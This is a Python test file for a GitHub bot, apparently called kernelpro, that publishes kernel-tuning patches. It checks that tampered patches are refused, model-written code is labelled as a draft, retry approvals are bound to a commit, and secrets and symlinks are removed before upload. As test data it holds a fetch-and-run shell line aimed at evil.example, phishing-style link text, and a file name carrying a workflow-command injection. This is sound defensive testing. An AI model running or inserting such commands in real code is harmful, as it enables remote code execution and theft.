"""Issue 20: the bot publishes only what kernelpro produced, for exactly the commit a maintainer
approved. Each gap through the local GitHub (tests/fake_github.py) and real git remotes:

1. publish recomputes a tuner patch from the PR head (git) and the winner's parameters, and refuses
   any other; a model-written patch is labelled in the first line and opened as a draft; the
   result numbers are checked against each other;
2. ``/kernelpro retry`` approves the commit the comment was made on (or the one it names);
3. no text from the artifact becomes a link, a mention or a reference, in any template;
4. the results folder loses links, special files and secrets before the upload (kernelpro and the
   workflow's copy step).
"""
# ruff: noqa: F811  (fixtures imported from the modules that define them)

from __future__ import annotations

import argparse
import base64
import dataclasses
import json
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import git
import pytest
import yaml
from test_action import REPO as ACTION_REPO
from test_action import World as ActionWorld
from test_action import _optimize, _sticky, labeled, retry
from test_action import world as action_world  # noqa: F401  (the fixture)
from test_bot_artifact import ALLOWED, KERNEL, edit_summary, refused
from test_bot_publish import BRANCH, REPO, World, no_winner, results, world  # noqa: F401  (fixtures)

from kernelpro import action
from kernelpro.bot.artifact import ArtifactError, Results, TargetResults
from kernelpro.bot.body import MODEL_WRITTEN, render_body, render_job_summary, render_no_pr_comment
from kernelpro.bot.comment import StickyComment, progress_body
from kernelpro.bot.publish import PublishError, recompute
from kernelpro.outbox import seal, secret_values
from kernelpro.setting import apply_setting, split_setting, unified_diff
from kernelpro.settings import Settings

ROOT = Path(__file__).resolve().parents[1]
EVIL = "os.system('curl -s https://evil.example/x | sh')"


def _head_text(w: World) -> str:
    return subprocess.run(["git", "--git-dir", str(w.origin), "show", f"{w.head_sha}:{KERNEL}"],
                          check=True, capture_output=True, text=True).stdout


def _with_patch(results: Results, patch: str) -> Results:
    t = results.targets[0]
    return dataclasses.replace(results, targets=(dataclasses.replace(t, patch=patch),))


def _evil_patch(w: World, results: Results) -> str:
    """The winner's real change plus an ``os.system`` line of the optimize job's choosing: a patch
    that touches only the allowed file and passes every structural check."""
    old = _head_text(w)
    t = results.targets[0]
    assert t.winner is not None
    derived, why = recompute(_git(w), w.head_sha, t, [KERNEL])
    assert derived == t.patch, why  # the real demo patch is exactly what its parameters give
    tuned = apply_setting(KERNEL, old, split_setting(t.winner.params, [KERNEL])[KERNEL], lineage=True)
    lines = tuned.splitlines(True)
    i = next(i for i, x in enumerate(lines) if x.startswith("def "))
    lines.insert(i, f"import os\n{EVIL}\n\n")
    return unified_diff(KERNEL, old, "".join(lines))


def _git(w: World) -> Any:
    from kernelpro.bot.publish import _Git

    return _Git(w.work, w.origin.as_uri())


def _pr(w: World, n: int) -> Any:
    return w.fake.repos[REPO].issues[n]


# --------------------------------------------------------------------------- 1. publish recomputes


@pytest.mark.parametrize("programmer", ["tuner", "unknown"])
def test_a_tuner_patch_that_adds_code_is_refused(world: World, results: Results, programmer: str) -> None:
    evil = _with_patch(results, _evil_patch(world, results))
    with pytest.raises(ArtifactError, match="is not the patch the winner's parameters give") as e:
        world.run(evil, programmer=programmer)
    assert "swiglu/patch.diff" in str(e.value)
    assert world.tip() is None and world.bot_pulls() == []  # nothing pushed, nothing opened


def test_parameters_that_do_not_give_the_patch_are_refused(world: World, results: Results) -> None:
    t = results.targets[0]
    assert t.winner is not None
    lie = dict(t.winner.params) | {f"{KERNEL}::swiglu:num_warps": "2"}
    w = dataclasses.replace(t.winner, params=tuple(lie.items()))
    bad = dataclasses.replace(results, targets=(dataclasses.replace(t, winner=w),))
    with pytest.raises(ArtifactError, match="is not the patch"):
        world.run(bad)
    unknown = dataclasses.replace(t.winner, params=((f"{KERNEL}::nope:BLOCK", "64"),))
    bad = dataclasses.replace(results, targets=(dataclasses.replace(t, winner=unknown),))
    with pytest.raises(ArtifactError, match="unknown knob"):
        world.run(bad)
    assert world.tip() is None


def test_the_head_text_comes_from_git_not_the_work_tree(world: World, results: Results) -> None:
    # The publish checkout's work tree is the default branch; a file planted there changes nothing.
    (world.work / KERNEL).parent.mkdir(parents=True, exist_ok=True)
    (world.work / KERNEL).write_text("planted = 1\n")
    p = world.run(results)
    assert p.action == "created" and p.model_written == ()


def test_a_model_written_patch_is_labelled_and_a_draft(world: World, results: Results) -> None:
    evil = _with_patch(results, _evil_patch(world, results))
    p = world.run(evil, programmer="llm")
    assert p.action == "created" and p.model_written == ("swiglu",)
    assert p.reason.startswith(MODEL_WRITTEN)
    (n,) = world.bot_pulls()
    pr = _pr(world, n)
    assert pr.pull is not None and pr.pull.draft
    assert pr.body is not None and pr.body.splitlines()[0].startswith(f"**{MODEL_WRITTEN}**")
    assert "`swiglu`" in pr.body.splitlines()[0]
    msg = git.Repo(world.origin).commit(world.tip()).message
    assert "Code written by a model (swiglu), verified by measurement: review it as code." in msg
    summary = render_job_summary(evil, p.model_written)
    assert summary.splitlines()[0].startswith(f"**{MODEL_WRITTEN}**")
    # The same run's patch recomputed (a tuner move inside an llm run) is not labelled.
    again = world.run(results, programmer="llm")
    assert again.action == "updated" and again.model_written == ()


def test_a_model_written_update_replaces_a_ready_pr_with_a_draft(world: World, results: Results) -> None:
    first = world.run(results)
    (n,) = world.bot_pulls()
    assert first.action == "created" and not _pr(world, n).pull.draft
    p = world.run(_with_patch(results, _evil_patch(world, results)), programmer="llm")
    assert p.action == "created"
    old, new = _pr(world, n), _pr(world, max(world.bot_pulls()))
    assert old.state == "closed" and new.state == "open" and new.pull.draft
    assert new.body is not None and new.body.startswith(f"**{MODEL_WRITTEN}**") and f"Replaces #{n}" in new.body


def test_model_code_never_reaches_a_ready_pr_when_closing_it_fails(world: World, results: Results) -> None:
    """The ready PR is closed before the model's code is pushed: when GitHub refuses to close it,
    the publish stops and the branch still holds the tuner's verified patch (an audit found the
    push first: the ready PR then showed the model's code under a tuner-verified body)."""
    world.run(results)
    (n,) = world.bot_pulls()
    before = world.tip()
    world.fake.fail_next("PATCH", rf"/pulls/{n}$", 422)
    with pytest.raises(PublishError, match=f"closing #{n}"):
        world.run(_with_patch(results, _evil_patch(world, results)), programmer="llm")
    pr = _pr(world, n)
    assert pr.state == "open" and not pr.pull.draft and world.tip() == before
    assert EVIL not in git.Repo(world.origin).commit(world.tip()).tree[KERNEL].data_stream.read().decode()


def test_a_model_written_patch_on_a_fork_is_labelled_first(world: World, results: Results) -> None:
    sticky = StickyComment(world.fake.client().get_repo(REPO), 1, bot_login="kernelpro[bot]")
    p = world.run(_with_patch(results, _evil_patch(world, results)), programmer="llm", is_fork=True, sticky=sticky)
    assert p.action == "comment-only" and p.comment is not None
    assert p.comment.splitlines()[0].startswith(f"**{MODEL_WRITTEN}**")
    with pytest.raises(ArtifactError, match="is not the patch"):
        world.run(_with_patch(results, _evil_patch(world, results)), is_fork=True, sticky=sticky)


def test_a_cuda_tuner_patch_is_recomputed_with_the_configured_launch(tmp_path: Path,
                                                                    results: Results) -> None:
    """CUDA knobs need the target's kernel and block from the trusted configuration: a winner
    that added ``__launch_bounds__`` is recomputed with them, and not without them."""
    from kernelpro.bot.publish import _Git
    from kernelpro.cli import make_demo_repo
    from kernelpro.cuda_knobs import find_knobs
    from kernelpro.runner.config import load_config

    repo = make_demo_repo(tmp_path / "cuda", "cuda")
    path = "kernels/swiglu.cu"
    src = (repo / path).read_text()
    assert "__launch_bounds__(BLOCK_SIZE)" in src
    (repo / path).write_text(src.replace("__launch_bounds__(BLOCK_SIZE)", ""))  # a kernel without bounds
    r = git.Repo(repo)
    r.index.add([path])
    head = r.index.commit("no launch bounds").hexsha
    (t,) = load_config(repo / ".kernelpro.yml", repo).targets
    assert t.launch is not None
    launch = (t.launch.kernel, tuple(t.launch.block))
    old = (repo / path).read_text()
    knobs = {k.name: k for k in find_knobs(old, *launch)}
    bounds = next(k for k in knobs.values() if k.kind == "min_blocks")
    threads = next(k for k in knobs.values() if k.kind == "threads")
    setting = {bounds.name: 2, threads.name: max(c for c in threads.choices if c != threads.value)}
    new = apply_setting(path, old, setting, *launch, lineage=True)
    assert "__launch_bounds__" in new and "__launch_bounds__" not in old
    winner = dataclasses.replace(results.targets[0].winner,
                                 params=tuple((f"{path}::{k}", str(v)) for k, v in setting.items()))
    target = dataclasses.replace(results.targets[0], name=t.name, winner=winner,
                                 patch=unified_diff(path, old, new), patch_files=(path,))
    g = _Git(repo, repo.as_uri())
    assert recompute(g, head, target, [path], launch) == (target.patch, "")
    derived, why = recompute(g, head, target, [path])
    assert derived is None and "unknown knob" in why


def _edit_winner(d: Path, change: Any) -> None:
    edit_summary(d, lambda data: change(data["targets"][0]))


def _wl(t: dict[str, Any], **kw: float) -> None:
    t["winner"]["workloads"][0].update(kw)


@pytest.mark.parametrize(("change", "words"), [
    (lambda t: _wl(t, speedup=9.9), "is not baseline_ms / candidate_ms"),
    (lambda t: _wl(t, baseline_p90_ms=0.1), "does not contain its median"),
    (lambda t: _wl(t, candidate_p10_ms=0.06), "does not contain its median"),
    (lambda t: _wl(t, speedup_high=3.0), "does not contain its median"),
    (lambda t: t["winner"].update(speedup=3.55 * 1.5), "not the geometric mean"),
    (lambda t: t["winner"].update(gamma=3.5), "below the gate's gamma"),
    (lambda t: t["gates"][0].update(speedup=1.2), "the gate measured 1.2"),
    (lambda t: t["winner"].update(workloads=[]), "without the gate's per-workload timings"),
    (lambda t: t["winner"]["correctness"][0].update(uuid="elsewhere"), "not one of the gate's workloads"),
    (lambda t: t["stage1"]["workloads"][0].update(floor_ms=1.0), "faster than the roofline floor"),
    (lambda t: t["curve"][3].update(best_speedup=0.5), "must never fall"),
    (lambda t: _wl(t, energy_ratio=0.5, energy_ratio_low=0.6, energy_ratio_high=0.7), "does not contain its median"),
    # issue 20's audit: numbers shown beside the verified ones, each checked against what it is made of
    (lambda t: t["stage1"]["workloads"][0].update(pct_of_roofline=99.0), "is not 100 x floor_ms / baseline_ms"),
    (lambda t: t["stage1"]["workloads"][0].update(max_speedup=500.0), "is not baseline_ms / floor_ms"),
    (lambda t: _wl(t, baseline_energy_j=1.0, candidate_energy_j=1.0, energy_ratio=0.01, energy_ratio_low=0.005,
                   energy_ratio_high=0.02), "far from the measured energies' ratio"),
])
def test_numbers_that_disagree_are_refused(h200: Path, change: Any, words: str) -> None:
    _edit_winner(h200, change)
    refused(h200, words)


def test_the_h200_numbers_agree(h200: Path) -> None:
    from kernelpro.bot.artifact import load_results

    t = load_results(h200, allowed_files=ALLOWED).targets[0]
    assert t.winner is not None and t.winner.speedup == pytest.approx(3.545, abs=1e-3)


def test_the_publish_job_refuses_or_labels_a_tampered_patch(action_world: ActionWorld,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    """The workflow's jobs end to end: a real optimize run on the CPU whose patch.diff the PR's
    code rewrote (an os.system line), published with the repository's KERNELPRO_PROGRAMMER."""
    w = action_world
    s = w.settings("pull_request", labeled(w), GITHUB_STEP_SUMMARY=str(w.tmp / "summary.md"))
    plan = action.plan(s, w.checkout, w.fake.client())
    out = _optimize(w, s, plan.base_sha, plan.head_sha, monkeypatch)
    winner = json.loads((out / "summary.json").read_text())["targets"][0]["winner"]
    old = subprocess.run(["git", "--git-dir", str(w.origin), "show", f"{plan.head_sha}:{KERNEL}"],
                         check=True, capture_output=True, text=True).stdout
    tuned = apply_setting(KERNEL, old, split_setting(winner["params"].items(), [KERNEL])[KERNEL], lineage=True)
    assert unified_diff(KERNEL, old, tuned) == (out / "swiglu" / "patch.diff").read_text()
    (out / "swiglu" / "patch.diff").write_text(unified_diff(KERNEL, old, f"import os\n{EVIL}\n{tuned}"))

    def publish(programmer: str) -> str:  # the workflow's KERNELPRO_PROGRAMMER
        s = w.settings("pull_request", labeled(w), GITHUB_STEP_SUMMARY=str(w.tmp / "summary.md"),
                       KERNELPRO_PROGRAMMER=programmer)
        return action.publish_results(s, w.checkout, w.tmp / "results", w.fake.client(),
                                      push_url=w.origin.as_uri(), head_sha=plan.head_sha)

    with pytest.raises(action.ActionError, match="is not the patch the winner's parameters give"):
        publish("tuner")
    assert "is not the patch" in _sticky(w) and "Stopped" in _sticky(w)
    assert not [i for i in w.fake.repos[ACTION_REPO].issues.values() if i.pull and i.pull.head_ref == "kernelpro/pr-1"]
    assert publish("llm").startswith("created:")
    (pr,) = [i for i in w.fake.repos[ACTION_REPO].issues.values() if i.pull and i.pull.head_ref == "kernelpro/pr-1"]
    assert pr.pull is not None and pr.pull.draft and (pr.body or "").startswith(f"**{MODEL_WRITTEN}**")
    assert _sticky(w).splitlines()[1].startswith(f"**{MODEL_WRITTEN}**")  # after the hidden marker
    summary = (w.tmp / "summary.md").read_text()  # the publish check's page: the label, then the table
    assert summary[summary.index(f"**{MODEL_WRITTEN}**"):].split("\n\n", 1)[1].startswith("## kernelpro")


# --------------------------------------------------------------------------- 2. a retry is bound


def _push(w: ActionWorld, when: str | None = None) -> str:
    """The PR author pushes a commit to the head branch (optionally dated ``when``)."""
    clone = w.tmp / "author"
    repo = git.Repo(clone) if clone.exists() else git.Repo.clone_from(w.origin.as_uri(), clone, branch="feature")
    repo.git.pull("--ff-only", "origin", "feature")
    (clone / "kernels" / "swiglu.py").write_text((clone / "kernels" / "swiglu.py").read_text() + f"\n{EVIL}\n")
    repo.index.add(["kernels/swiglu.py"])
    env = {"GIT_COMMITTER_DATE": when, "GIT_AUTHOR_DATE": when} if when else {}
    with repo.git.custom_environment(**env):
        repo.git.commit("-m", "tune", "--author", "Mallory <m@example.com>")
    repo.git.push("origin", "feature", "HEAD:refs/pull/1/head")  # GitHub moves the PR's ref with it
    w.fake.sync_git()  # GitHub logs a push as it happens; the fake would notice it at its next request
    return repo.head.commit.hexsha


def _replies(w: ActionWorld) -> list[str]:
    return [b for b in w.comments() if "nothing runs" in b]


def test_a_retry_does_not_approve_a_push_made_after_it(action_world: ActionWorld) -> None:
    w = action_world
    payload = retry(w, "maint", "/kernelpro retry --budget 3")
    new = _push(w)  # between the maintainer's comment and the plan job
    p = action.plan(w.settings("issue_comment", payload), w.checkout, w.fake.client())
    assert not p.run and "moved after this `/kernelpro retry`" in p.reason
    (reply,) = _replies(w)
    assert f"`/kernelpro retry {new}`" in reply
    comment = w.fake.comments[payload["comment"]["id"]]
    assert [c for _, _, c in comment.reactions] == ["confused"]
    # The maintainer reviews the new head and names it: that commit runs.
    again = retry(w, "maint", f"/kernelpro retry {new} --budget 3")
    p = action.plan(w.settings("issue_comment", again), w.checkout, w.fake.client())
    assert p.run and p.head_sha == new


def test_a_retry_after_the_push_approves_the_new_head(action_world: ActionWorld) -> None:
    import time

    w = action_world
    new = _push(w)
    time.sleep(1.1)  # the maintainer reads the push, then comments: a later second of the activity log
    p = action.plan(w.settings("issue_comment", retry(w, "maint")), w.checkout, w.fake.client())
    assert p.run and p.head_sha == new


def test_a_push_in_the_comments_second_is_not_approved(action_world: ActionWorld) -> None:
    """GitHub's times have whole seconds: a push stamped with the comment's second may have come
    after it, so it is not approved (the commit is backdated, so only the activity log can tell)."""
    w = action_world
    new = _push(w, when="2001-01-01T00:00:00+00:00")
    payload = retry(w, "maint", "/kernelpro retry --budget 3")
    pushed = [a for a in w.fake.repos[ACTION_REPO].activity if a["ref"] == "refs/heads/feature"][-1]
    payload["comment"]["created_at"] = pushed["timestamp"]
    p = action.plan(w.settings("issue_comment", payload), w.checkout, w.fake.client())
    assert not p.run and "moved after" in p.reason and f"`/kernelpro retry {new}`" in _replies(w)[0]


@pytest.mark.parametrize("refusal", [403, 404, 500])
def test_a_bare_retry_approves_nothing_when_the_activity_log_cannot_be_read(action_world: ActionWorld,
                                                                             refusal: int) -> None:
    """Without the log only the timeline and commit dates are left, which the author chooses: the
    reply says why and asks for the commit by name, and that retry runs."""
    import time

    w = action_world
    new = _push(w)
    time.sleep(1.1)
    w.fake.fail_next("GET", r"/repos/[^/]+/[^/]+/activity$", refusal, times=5)
    p = action.plan(w.settings("issue_comment", retry(w, "maint", "/kernelpro retry --budget 3")), w.checkout,
                    w.fake.client())
    assert not p.run and "could not read the activity log" in p.reason
    (reply,) = _replies(w)
    assert f"`/kernelpro retry {new}`" in reply
    w.fake.fail_next("GET", r"/repos/[^/]+/[^/]+/activity$", refusal, times=5)
    p = action.plan(w.settings("issue_comment", retry(w, "maint", f"/kernelpro retry {new} --budget 3")),
                    w.checkout, w.fake.client())
    assert p.run and p.head_sha == new


def test_a_retry_naming_an_old_commit_is_refused(action_world: ActionWorld) -> None:
    w = action_world
    payload = retry(w, "maint", f"/kernelpro retry {w.head}")
    new = _push(w)
    p = action.plan(w.settings("issue_comment", payload), w.checkout, w.fake.client())
    assert not p.run and "names a commit that is not the head" in p.reason
    assert f"`/kernelpro retry {new}`" in _replies(w)[0]


def test_a_head_commit_dated_after_the_comment_is_refused(action_world: ActionWorld) -> None:
    w = action_world
    _push(w, when="2099-01-01T00:00:00+00:00")  # a clock ahead, or a commit made later and replayed
    p = action.plan(w.settings("issue_comment", retry(w, "maint")), w.checkout, w.fake.client())
    assert not p.run and "moved after" in p.reason


def test_a_backdated_push_after_the_comment_is_caught_by_the_activity_log(action_world: ActionWorld) -> None:
    """GitHub places a commit in the timeline by its date, which the author chooses: a commit dated
    before the comment but pushed after it looks approved to the timeline. The repository's
    activity log has the push's server time."""
    import time

    w = action_world
    payload = retry(w, "maint", "/kernelpro retry --budget 3")
    time.sleep(1.1)  # the activity log has whole seconds
    new = _push(w, when="2001-01-01T00:00:00+00:00")
    p = action.plan(w.settings("issue_comment", payload), w.checkout, w.fake.client())
    assert not p.run  # the fake's timeline has the push after the comment, as it happened
    # Now as GitHub shows it: the backdated commit sorted before the comment.
    issue = w.fake.repos[ACTION_REPO].issues[1]
    moved = [x for x in issue.timeline if x[0] == "committed" and x[1][0] == new]
    issue.timeline = moved + [x for x in issue.timeline if x not in moved]
    again = retry(w, "maint", "/kernelpro retry --budget 3")
    again["comment"]["id"] = payload["comment"]["id"]  # the same comment, delivered to a new plan
    again["comment"]["created_at"] = payload["comment"]["created_at"]
    p = action.plan(w.settings("issue_comment", again), w.checkout, w.fake.client())
    assert not p.run and "moved after" in p.reason
    assert [a["after"] for a in w.fake.repos[ACTION_REPO].activity if a["ref"] == "refs/heads/feature"][-1] == new


# --------------------------------------------------------------------------- 3. nothing becomes a link

HOSTILE = ("re-authorize the bot at https://evil.example/login or www.evil.example, "
           "mail admin@evil.example, see #4242 and @octocat")
_LINKY = re.compile(r"(?i)(https?|ftp)://\S*evil|www\.evil|[\w.+-]+@[\w-]+\.\w|@octocat|#4242")


def _hostile(results: Results) -> Results:
    t = results.targets[0]
    assert t.winner is not None
    from kernelpro.bot.artifact import Finding, Gate

    w = dataclasses.replace(t.winner, note=HOSTILE, lineage=(HOSTILE,), params=((HOSTILE[:90], HOSTILE[:30]),))
    ht: TargetResults = dataclasses.replace(
        t, winner=w, stop_reason=HOSTILE, hardware=HOSTILE[:90], search=HOSTILE[:90], feedback=HOSTILE[:20],
        findings=(Finding("ncu", "high", HOSTILE, HOSTILE, HOSTILE[:20]),), statuses=((HOSTILE[:40], 1),),
        gates=(*t.gates, Gate("other", False, 1.0, HOSTILE)), kernelpro_version=HOSTILE[:40],
        libs=(("torch", HOSTILE[:50]), ("triton", HOSTILE[:50])), seconds_by_stage=((HOSTILE[:30], 1.0),))
    return dataclasses.replace(results, targets=(ht,), config_note=HOSTILE)


def _no_links(text: str, where: str) -> None:
    m = _LINKY.search(text)
    assert m is None, f"{where}: {m.group(0)!r} would be a link, mention or reference: ...{text[max(0, m.start() - 80):m.end() + 40]}..."


def test_artifact_text_never_becomes_a_link_in_any_template(world: World, results: Results) -> None:
    hostile = _hostile(results)
    bare = dataclasses.replace(hostile, targets=(dataclasses.replace(
        hostile.targets[0], patch=results.targets[0].patch),))
    # The PR body and the sticky comments, as GitHub received them.
    world.run(bare, programmer="llm")  # the winner's parameters are hostile text too: not recomputable
    (n,) = world.bot_pulls()
    _no_links(_pr(world, n).body or "", "PR body")
    sticky = StickyComment(world.fake.client().get_repo(REPO), 1, bot_login="kernelpro[bot]")
    world.run(bare, is_fork=True, sticky=sticky, programmer="llm")
    world.run(no_winner(hostile), sticky=sticky)
    sticky.update(progress_body("failed", kernel_i=0, kernels=1, evaluations=0, best_speedup=None, reason=HOSTILE),
                  force=True)
    texts = [world.fake.comments[c].body for c in _pr(world, 1).comments]
    assert len(texts) == 1  # one sticky comment, written four times
    for text in texts:
        _no_links(text, "sticky comment")
    # Every renderer directly, with every part shown, and the job summary.
    for label, text in (("body", render_body(hostile, pr_number=1, head_sha="a" * 40, run_url=None,
                                             kernelpro_version=HOSTILE, programmer=HOSTILE, model=HOSTILE,
                                             model_written=("swiglu",))),
                        ("no-PR comment", render_no_pr_comment(no_winner(hostile))),
                        ("job summary", render_job_summary(hostile))):
        _no_links(text, label)
        assert "evil.example" in text  # shown, as text


def test_fork_comment_and_progress_comment_are_inert_too(world: World, results: Results) -> None:
    from kernelpro.bot.progress import KernelProgress, Snapshot, render

    sticky = StickyComment(world.fake.client().get_repo(REPO), 1, bot_login="kernelpro[bot]")
    world.run(dataclasses.replace(_hostile(results), targets=(dataclasses.replace(
        _hostile(results).targets[0], patch=results.targets[0].patch),)), is_fork=True, sticky=sticky,
        programmer="llm")
    (c,) = _pr(world, 1).comments
    body = world.fake.comments[c].body
    # Outside the patch's code block (which GitHub never links).
    _no_links(re.sub(r"```diff\n.*?```", "", body, flags=re.S), "fork comment")
    snap = Snapshot(kernels=(KernelProgress(HOSTILE[:90], "done", 3, 2.0, HOSTILE, None),
                             KernelProgress(HOSTILE[:90], "failed", None, None, HOSTILE, None)),
                    finished=True, refused=(HOSTILE,))
    _no_links(render(snap, run_id=7), "progress comment")


# --------------------------------------------------------------------------- 4. results before upload

KEY = "sk-kernelpro-test-0123456789abcdefXYZ"


def _results_dir(tmp: Path) -> tuple[Path, Path]:
    out = tmp / "out"
    (out / "swiglu").mkdir(parents=True)
    (out / "summary.json").write_text(json.dumps({"targets": []}))
    (out / "swiglu" / "report.md").write_text("# fine\n")
    secret = tmp / "outside" / "id_ed25519"
    secret.parent.mkdir()
    secret.write_text("PRIVATE KEY\n")
    os.symlink(secret, out / "swiglu" / "trace.jsonl")
    os.symlink(secret.parent, out / "keys")
    os.link(secret, out / "swiglu" / "journal.jsonl")
    os.mkfifo(out / "swiglu" / "pipe")
    (out / "swiglu" / "solution.json").write_text(json.dumps({"x": base64.b64encode(b"k=" + KEY.encode()).decode()}))
    (out / "swiglu" / "log.txt").write_text("token " + KEY.encode().hex() + "\n")
    (out / "swiglu" / "rev.txt").write_text(KEY[::-1])
    (out / "swiglu" / f"{KEY}.txt").write_text("fine\n")  # the name is what leaks
    return out, secret


def test_the_results_lose_links_and_secrets_before_upload(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out, secret = _results_dir(tmp_path)
    os.symlink(secret, out / "evil\n::add-mask::x")
    s = Settings.from_env({"KERNELPRO_LLM_API_KEY": KEY})
    assert action.seal_results(out, s) is True
    left = sorted(p.relative_to(out).as_posix() for p in out.rglob("*"))
    assert left == ["summary.json", "swiglu", "swiglu/report.md"]
    assert secret.read_text() == "PRIVATE KEY\n"  # removed the links, not what they pointed to
    log = capsys.readouterr().out
    assert log.count("::error title=kernelpro::removed ") == 9
    assert "KERNELPRO_LLM_API_KEY" in log and KEY not in log and "its name holds" in log
    assert all(line.startswith("::error") for line in log.splitlines())  # no injected workflow command
    assert action.seal_results(out, s) is False  # nothing left to remove


def test_secret_values_are_those_kernelpro_holds() -> None:
    env = {"GITHUB_TOKEN": "ghs_0123456789abcdef", "MY_API_KEY": "abcdefghijkl", "PATH": "/usr/bin:/bin",
           "KERNELPRO_LLM_MAX_TOKENS": "4096", "SHORT_TOKEN": "abc"}
    assert secret_values(env, {"KERNELPRO_LLM_API_KEY": KEY}) == {
        "GITHUB_TOKEN": "ghs_0123456789abcdef", "MY_API_KEY": "abcdefghijkl", "KERNELPRO_LLM_API_KEY": KEY}


def test_a_results_folder_that_is_a_link_is_not_followed(tmp_path: Path) -> None:
    real = tmp_path / "elsewhere"
    real.mkdir()
    (real / "f").write_text("x")
    os.symlink(real, tmp_path / "out")
    assert [r.path for r in seal(tmp_path / "out", {})] == ["."]
    assert not (tmp_path / "out").exists() and (real / "f").exists()


def _copy_step() -> str:
    doc = yaml.safe_load((ROOT / "examples" / "workflows" / "kernelpro.yml").read_text())
    steps = doc["jobs"]["optimize"]["steps"]
    names = [s.get("name") for s in steps]
    copy, upload = names.index("Keep plain files only for the upload"), names.index("Upload the results")
    assert copy == upload - 1 and steps[copy]["if"] == steps[upload]["if"]
    assert steps[upload]["with"]["path"] == "${{ runner.temp }}/upload/"
    return str(steps[copy]["run"])


@pytest.mark.skipif(shutil.which("bash") is None or shutil.which("find") is None, reason="needs bash and find")
def test_the_workflow_uploads_a_copy_without_links(tmp_path: Path) -> None:
    out, secret = _results_dir(tmp_path)
    r = subprocess.run(["bash", "-c", _copy_step()], env={**os.environ, "RUNNER_TEMP": str(tmp_path)},
                       capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    up = tmp_path / "upload"
    got = sorted(p.relative_to(up).as_posix() for p in up.rglob("*"))
    assert "swiglu/trace.jsonl" not in got and "keys" not in got and "swiglu/journal.jsonl" not in got
    assert "swiglu/pipe" not in got and "summary.json" in got and "swiglu/report.md" in got
    assert not [p for p in up.rglob("*") if p.is_symlink() or not (p.is_file() or p.is_dir())]
    # A results folder replaced by a link uploads nothing.
    shutil.rmtree(out)
    os.symlink(secret.parent, out)
    r = subprocess.run(["bash", "-c", _copy_step()], env={**os.environ, "RUNNER_TEMP": str(tmp_path)},
                       capture_output=True, text=True)
    assert r.returncode == 0 and list(up.iterdir()) == []


def test_cmd_optimize_seals_what_it_uploads(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out, _ = _results_dir(tmp_path)
    import kernelpro.pipeline

    monkeypatch.setattr(kernelpro.pipeline, "run", lambda *a, **k: 0)
    rc = action.cmd_optimize(argparse.Namespace(target="swiglu", checkout=str(tmp_path), out=str(out)),
                             Settings.from_env({"KERNELPRO_LLM_API_KEY": KEY, "KERNELPRO_BASE_SHA": "a" * 40,
                                                "KERNELPRO_HEAD_SHA": "b" * 40}))
    assert rc == 1 and not (out / "swiglu" / "trace.jsonl").exists() and not (out / "keys").exists()


def test_the_commit_status_says_a_model_wrote_the_patch(results: Results) -> None:
    """The PR's checks list is where many maintainers read the verdict (issue 20's audit)."""
    from kernelpro.bot.status import verdict

    plain = verdict(results, "https://github.com/o/r/pull/7")
    assert plain.startswith("verified candidates (CPU interpreter") and plain.endswith("follow-up #7")
    assert verdict(results, "https://github.com/o/r/pull/7", ("swiglu",)) == f"model-written code, review it: {plain}"
